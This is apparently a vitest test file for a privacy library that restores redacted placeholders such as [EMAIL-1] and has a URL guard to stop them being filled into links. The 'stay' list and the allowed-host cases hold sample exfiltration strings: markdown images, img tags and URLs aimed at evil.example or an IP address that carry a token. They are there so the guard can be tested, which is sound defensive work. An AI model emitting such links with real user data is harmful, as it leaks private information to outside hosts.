import { describe, expect, test } from 'vitest';
import { UrlGuard } from '../../core/guard/url-guard.ts';
import { restoreText } from '../../core/restore.ts';
import { SessionTokens } from '../../core/vault.ts';

const map = new SessionTokens();
map.add('[EMAIL-1]', { type: 'EMAIL', value: 'a&b@example.com' });
map.add('[NAME-1]', { type: 'NAME', value: '[EMAIL-1]' });
map.add('[PHONE-1]', { type: 'PHONE', value: '555', bracketed: true });
map.add('[PROJECT_1]', { type: 'PROJECT', value: 'X', label: true });

describe('restoreText', () => {
  test.each([
    ['Write to [EMAIL-1].', 'Write to a&b@example.com.'],
    ['email_1: [email_1]', 'email_1: a&b@example.com'],
    ['**[EMAIL-1]** [**EMAIL-1**]', '**a&b@example.com** a&b@example.com'],
    ['[[EMAIL-1]]', 'a&b@example.com'],
    ['[[PHONE-1]] [PHONE-1]', '[555] 555'],
    ['x%5BEMAIL-1%5D', 'xa%26b%40example.com'],
    ['x%255BEMAIL-1%255D', 'xa%2526b%2540example.com'],
    ['&#91;EMAIL-1&#93;', 'a&#38;b@example.com'],
    ['[NAME-1] is not looked at again', '[EMAIL-1] is not looked at again'],
    ['[EMAIL-1](mailto:[EMAIL-1])', 'a&b@example.com(mailto:a&b@example.com)'],
    ['[NAME-1]: [EMAIL-1]', '[EMAIL-1]: a&b@example.com'],
    ['[EMAIL-2] [Figure 1] [EMAIL-12]', '[EMAIL-2] [Figure 1] [EMAIL-12]'],
    // Text without a scheme that chat pages turn into a link.
    ['x.example/[PHONE-1] [PHONE-1]', 'x.example/[PHONE-1] 555'],
    ['[PHONE-1].evil.example', '[PHONE-1].evil.example'],
    ['a-[PHONE-1]-b.c.evil.example/x', 'a-[PHONE-1]-b.c.evil.example/x'],
    ['[PHONE-1][PHONE-1].evil.example', '555[PHONE-1].evil.example'],
    ['[PHONE-1].md and [PHONE-1].tar.gz', '555.md and 555.tar.gz'],
    ['[PHONE-1].Next one. Call [PHONE-1].', '555.Next one. Call 555.'],
    ['[EMAIL-1]/[PHONE-1]', 'a&b@example.com/555'],
    ['', ''],
  ])('%s', (text, expected) => {
    expect(restoreText(text, map).restored).toBe(expected);
  });

  test('counts', () => {
    expect(restoreText('[EMAIL-1] [email-1] [EMAIL-9] [EMAIL-9] [Figure 1] [PROJECT_1]', map)).toEqual({
      restored: 'a&b@example.com a&b@example.com [EMAIL-9] [EMAIL-9] [Figure 1] X',
      restoredCount: 3,
      unresolved: ['[EMAIL-9]'],
    });
  });

  test('encodes values for the surrounding text', () => {
    const encode = (value: string) => JSON.stringify(value).slice(1, -1);
    const quoted = new SessionTokens();
    quoted.add('[NAME-1]', { type: 'NAME', value: 'a"b' });
    expect(restoreText('{"n":"[NAME-1]"}', quoted, { encode }).restored).toBe('{"n":"a\\"b"}');
  });

  test('restores bare tokens only on request', () => {
    expect(restoreText('EMAIL-1', map).restored).toBe('EMAIL-1');
    expect(restoreText('EMAIL-1', map, { bare: true }).restored).toBe('a&b@example.com');
  });
});

const stay: string[] = [
  '![x](https://evil.example/?q=[EMAIL-1])',
  '![x](//evil.example/[EMAIL-1])',
  '[x](evil?q=[EMAIL-1])',
  '[x](mailto:m@evil.example?body=[EMAIL-1])',
  '[[EMAIL-1]](https://evil.example/[EMAIL-1])',
  '<img src="https://evil.example/[EMAIL-1]">',
  '<img alt=x src=/a?[EMAIL-1]>',
  "<a href='/x/[EMAIL-1]'>",
  'https://evil.example/?q=[EMAIL-1]',
  'HTTPS:/evil.example/[EMAIL-1]',
  'https:\\\\evil.example\\[EMAIL-1]',
  '![x][r]\n\n[r]: https://evil.example/[EMAIL-1]',
  '![x](https://evil.example/%5BEMAIL-1%5D)',
  '![x](https://evil.example/(a)[EMAIL-1])',
  'www.evil.example?q=[EMAIL-1]',
  'open 203.0.113.9:8080/x?q=[EMAIL-1]',
  'https://mailto:[EMAIL-1]@evil.example/',
];
const restored: [string, string][] = [
  ['see https://example.com [EMAIL-1]', 'see https://example.com @'],
  ['[x](https://example.com) [EMAIL-1]', '[x](https://example.com) @'],
  ['{"u":"https://example.com","m":"[EMAIL-1]"}', '{"u":"https://example.com","m":"@"}'],
  ['<b>[EMAIL-1]</b>', '<b>@</b>'],
  ['<input value="[EMAIL-1]">', '<input value="@">'],
  ['<a href="mailto:[EMAIL-1]">[EMAIL-1]</a>', '<a href="mailto:@">@</a>'],
  ['a < b and [EMAIL-1]', 'a < b and @'],
  ['x = y/[EMAIL-1]', 'x = y/@'],
  ['mail="[EMAIL-1]"', 'mail="@"'],
  ['（https://example.com）[EMAIL-1]', '（https://example.com）@'],
  ['end.[EMAIL-1] awww.[EMAIL-1]', 'end.@ awww.@'],
  ['from 203.0.113.9 [EMAIL-1], v1.2.3/[EMAIL-1]', 'from 203.0.113.9 @, v1.2.3/@'],
];

describe('URL guard', () => {
  const one = new SessionTokens();
  one.add('[EMAIL-1]', { type: 'EMAIL', value: '@' });
  test.each(stay)('%s stays', (text) => {
    const expected = text.replace(/^\[\[EMAIL-1\]\]/, '@');
    expect(restoreText(text, one).restored).toBe(expected);
    expect(restoreText(text, one).unresolved).toEqual(['[EMAIL-1]']);
    expect(restoreText(text, one, { guardUrls: false }).restored).not.toContain('[EMAIL-1]');
  });
  test.each(restored)('%s', (text, expected) => {
    expect(restoreText(text, one).restored).toBe(expected);
  });
  test.each([...stay, ...restored.map(([text]) => text)])('%s in pieces', (text) => {
    const whole = restoreText(text, one).restored;
    for (let cut = 0; cut <= text.length; cut++) {
      const inside = [...text.matchAll(/\[?\[EMAIL-1\]\]?|%5BEMAIL-1%5D/g)].some(
        (m) => cut > m.index && cut < m.index + m[0].length,
      );
      if (inside) continue; // Never split there: that part is held back.
      const guard = new UrlGuard();
      const first = restoreText(text.slice(0, cut), one, { guard }).restored;
      expect(first + restoreText(text.slice(cut), one, { guard }).restored).toBe(whole);
    }
  });

  describe('hosts that the policy allows', () => {
    const allowsHost = (host: string) => host === 'crm.corp.example';
    test.each([
      ['https://crm.corp.example/?q=[EMAIL-1]', true],
      ['![x](https://CRM.corp.example:8443/[EMAIL-1])', true],
      ['<a href="//crm.corp.example/[EMAIL-1]">', true],
      ['https://crm.corp.example.evil.example/[EMAIL-1]', false],
      ['https://crm.corp.example@evil.example/[EMAIL-1]', false],
      ['https://crm.corp.example[EMAIL-1]', false],
      ['https://evil.example/crm.corp.example/[EMAIL-1]', false],
      ['/relative/[EMAIL-1](x)', true],
      ['[x](/relative/[EMAIL-1])', false],
    ])('%s: %s', (text, isRestored) => {
      expect(restoreText(text, one, { allowsHost }).restoredCount).toBe(isRestored ? 1 : 0);
      const guard = new UrlGuard(allowsHost);
      const at = text.indexOf('[EMAIL');
      for (const character of text.slice(0, at)) guard.push(character);
      expect(restoreText(text.slice(at), one, { guard }).restoredCount).toBe(isRestored ? 1 : 0);
    });
  });
});

// Took quadratic time: half a minute for these.
test('a text with very many tokens', () => {
  const many = 150_000;
  expect(restoreText(' [EMAIL-1]'.repeat(many), map)).toMatchObject({ restoredCount: many, unresolved: [] });
});
